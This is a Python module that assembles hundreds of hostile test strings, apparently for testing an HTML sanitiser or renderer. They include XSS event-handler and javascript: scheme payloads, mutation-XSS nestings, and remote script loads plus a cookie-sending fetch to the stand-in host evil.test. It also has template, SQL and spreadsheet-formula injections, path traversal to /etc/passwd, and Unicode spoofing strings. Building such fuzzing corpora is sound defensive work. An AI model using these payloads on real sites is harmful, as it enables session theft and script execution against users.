"""Hostile strings, put together from parts: elements, handlers, quotes, encodings, and ways out.

Every one would run ``alert(1)``, load something from ``evil.test``, or break the page around it, if
it were ever taken for markup.
"""

from collections.abc import Iterator, Sequence
from itertools import cycle, islice

PAYLOADS = (
    "alert(1)",
    "alert`1`",
    "&#97;lert(1)",
    "&#x61;lert&lpar;1&rpar;",
    "\\u0061lert(1)",
    "window['al'+'ert'](1)",
    "top[/al/.source+/ert/.source](1)",
    "eval(atob('YWxlcnQoMSk='))",
    "setTimeout('alert(1)')",
    "import('//evil.test/a.js')",
    "fetch('http://evil.test/'+document.cookie)",
    "location='javascript:alert(1)'",
)
ELEMENTS: tuple[tuple[str, str], ...] = (
    ("img src=x", "onerror"),
    ("svg", "onload"),
    ("body", "onload"),
    ("input autofocus", "onfocus"),
    ("textarea autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("video><source", "onerror"),
    ("details open", "ontoggle"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("embed src=x", "onload"),
    ("script src=x", "onerror"),
    ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"),
    ("marquee", "onstart"),
    ("svg><animate attributeName=x dur=1s", "onbegin"),
    ("svg><image href=x", "onerror"),
    ("math><mi", "onpointerover"),
    ("dialog open", "onclose"),
    ("p contenteditable autofocus", "onfocus"),
    ("b tabindex=1 autofocus", "onfocus"),
    ("a href=#", "onclick"),
    ("frameset", "onload"),
    ("table background=x", "onmouseover"),
)
QUOTES = ("", '"', "'", "`")
GAPS = (" ", "\t", "/", "\f", "  ", "/\t", "\u00a0", "\u2028")
WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</p>",
    "</mark></p></div></section></article></main>",
    "</title>",
    "</textarea>",
    "</script>",
    "</style>",
    "</option></select>",
    "</datalist>",
    "</template>",
    "</noscript>",
    "</xmp></plaintext>",
    "</bdi></a></header>",
)
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "\u0001javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6a&#x61vascript&colon;alert(1)",
    "javascript&NewLine;:alert(1)",
    "javascript://evil.test/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "blob:http://evil.test/x",
    "file:///etc/passwd",
    "//evil.test/x",
    "/\\evil.test/x",
)
LINKS = (
    '<a href="{}">x</a>',
    "<a href={}>x</a>",
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button autofocus>x</button></form>',
    '<button form=f formaction="{}">x</button>',
    '<object data="{}"></object>',
    '<meta http-equiv=refresh content="0;url={}">',
    '<base href="{}"><a href=x>x</a>',
    '<svg><a href="{}"><text>x</text></a></svg>',
    "[x]({})",
    "[x](<{}>)",
    '![x]({} "t")',
    "<{}>",
    "[x][1]\n\n[1]: {}",
)
LOADS = (
    '<img src="http://evil.test/{}">',
    '<img srcset="http://evil.test/{} 2x">',
    '<link rel=stylesheet href="http://evil.test/{}">',
    '<link rel=prefetch href="http://evil.test/{}">',
    '<script src="http://evil.test/{}"></script>',
    '<script type=module>import "http://evil.test/{}"</script>',
    "<style>@import 'http://evil.test/{}';</style>",
    '<p style="background:url(http://evil.test/{})">x</p>',
    '<video poster="http://evil.test/{}"></video>',
    '<input type=image src="http://evil.test/{}">',
    "<iframe srcdoc=\"<img src='http://evil.test/{}'>\"></iframe>",
    '<div hx-get="http://evil.test/{}" hx-trigger="load">x</div>',
    '<div data-hx-post="/projects" hx-trigger="revealed" hx-vals=\'{"name":"evil"}\'>x</div>',
    '<div hx-on:htmx:load="alert(1)" hx-trigger=load>x</div>',
    '<div hx-swap-oob="innerHTML:#polite">x</div>',
    '<div id="state" data-state="saved">x</div>',
    '<template shadowrootmode=open><img src="http://evil.test/{}"></template>',
    "![x](http://evil.test/{})",
)
NESTS = (
    "svg",
    "math",
    "noscript",
    "table",
    "select",
    "template",
    "math><mtext><table",
    "svg><desc",
)
INSIDE = ("style", "title", "textarea", "xmp", "noembed", "iframe", "script", "mglyph", "p")
ODDITIES = (
    "{{ 7 * 7 }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s %n {0} {name}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\x3cscript\\x3ealert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    "<scr\u0131pt>alert(1)</scr\u0131pt>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<script\n>alert(1)</script\n>",
    "<!--><script>alert(1)</script>",
    "<!--[if true]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u202egnp.txe\u202c \u2066x\u2067y",
    "\u200f\u202d\u202e\u2068 turned",
    "Z\u0351\u036b\u0343\u036a\u0302" * 8,
    "a\u0000b".replace("\u0000", "\u0001"),
    "\u0007\u001b[31mred\u009b31m",
    "\ufeff\ufffe\uffff\ufffd",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f1e9\U0001f1ea",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; drop table annotations; --",
    '" or ""="',
    "../../../../etc/passwd",
    "CON.txt\\..\\x",
    "x\ty\u000bz\u0085w\u2029v",
    "__proto__",
    "constructor",
    "-0",
    "undefined",
    "$& $` $' $1",
    "x" * 3_000,
    "\u0639\u0631\u0628\u064a \u05e2\u05d1\u05e8\u05d9\u05ea abc",
)


def vectors() -> list[str]:
    """Some hundreds of hostile strings, each of them once, always the same."""
    return list(
        dict.fromkeys((*_handlers(), *_scripts(), *_links(), *_loads(), *_nested(), *ODDITIES))
    )


def _handlers() -> Iterator[str]:
    """Each element with several payloads; quotes, gaps and ways out go round at other speeds."""
    quotes, gaps, out = cycle(QUOTES), cycle(GAPS), cycle(WAYS_OUT)
    payloads = cycle(PAYLOADS)
    for number, (element, handler) in enumerate(ELEMENTS):
        for payload in islice(payloads, 5):
            quote, gap = next(quotes), next(gaps)
            name = handler.upper() if number % 3 else handler
            end = "" if number % 4 == 3 else ">"
            yield f"{next(out)}<{element}{gap}{name}={quote}{payload}{quote}{end}"
        next(quotes)


def _scripts() -> Iterator[str]:
    for way in WAYS_OUT:
        yield f"{way}<script>alert(1)</script>"
        yield f"{way}<ScRiPt/x>{PAYLOADS[len(way) % len(PAYLOADS)]}</sCrIpT/y>"


def _links() -> Iterator[str]:
    for number, link in enumerate(LINKS):
        for scheme in _some(SCHEMES, number, 5):
            yield link.replace("{}", scheme)
    yield from SCHEMES


def _loads() -> Iterator[str]:
    for number, load in enumerate(LOADS):
        yield load.replace("{}", f"{number}")
        yield WAYS_OUT[number % len(WAYS_OUT)] + load.replace("{}", f"out{number}")


def _nested() -> Iterator[str]:
    for number, nest in enumerate(NESTS):
        for inside in _some(INSIDE, number, 4):
            yield f'<{nest}><{inside}><a title="</{inside}><img src=x onerror=alert(1)>">'


def _some(parts: Sequence[str], start: int, count: int) -> Iterator[str]:
    return islice(cycle(parts), start * 3, start * 3 + count)
